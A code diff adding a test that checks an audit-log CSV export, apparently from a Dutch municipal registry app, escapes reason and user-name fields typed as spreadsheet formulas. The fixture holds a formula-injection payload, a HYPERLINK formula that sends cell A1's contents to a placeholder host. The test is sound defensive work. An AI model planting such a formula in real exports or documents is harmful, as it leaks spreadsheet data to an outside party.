@@ -185,3 +185,17 @@ def test_audit_export_keeps_the_reason_code_and_adds_its_label(f, login):
     by_object = {row["object"]: row for row in rows}
     assert (by_object["HV-9"]["reason"], by_object["HV-9"]["reason_label"]) == ("client look-up", "Inwoner opzoeken")
     assert (by_object["HV-10"]["reason"], by_object["HV-10"]["reason_label"]) == ("een eigen reden", "een eigen reden")
+
+
+def test_a_reason_or_user_name_typed_as_a_formula_stays_text_in_the_export(f, login):
+    formula = '=HYPERLINK("http://e.example/?"&A1,"Klik")'
+    AuditEvent.objects.create(at=timezone.now(), username="@beheer", roles="coordinator", action="change",
+                              object_type="registry.helprequest", object_id="7", object_label="HV-FORM",
+                              client_id=42, reason=formula)
+    officer = login(f.user(Role.PRIVACY_OFFICER))
+    response = officer.get("/staff/privacy/audit/export.csv", {"reference": "HV-FORM"})
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    record = next(row for row in rows if row["object"] == "HV-FORM")
+    assert record["reason"] == "'" + formula and record["reason_label"] == "'" + formula
+    assert record["username"] == "'@beheer"
+    assert record["client_id"] == "42" and record["at"][0].isdigit()  # numbers and times untouched
